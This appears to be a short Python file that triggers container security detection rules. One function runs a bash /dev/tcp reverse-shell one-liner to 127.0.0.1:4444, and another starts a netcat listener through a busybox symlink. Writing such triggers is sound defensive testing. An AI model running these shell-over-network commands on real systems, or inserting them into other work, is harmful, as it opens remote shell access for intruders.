# SPDX-License-Identifier: Apache-2.0
from support.box import Box

from default_rules import trigger


@trigger("shell-over-network")
def bash_dev_tcp(box: Box) -> None:
    box.sh("exec 3<>/dev/tcp/127.0.0.1/4444 && sh <&3 >&3", shell="/bin/bash")


@trigger("network-tool-in-container")
def netcat_listens(box: Box) -> None:
    box.sh("ln -s /bin/busybox /usr/local/bin/nc && timeout 0.1 nc -l -p 4444")
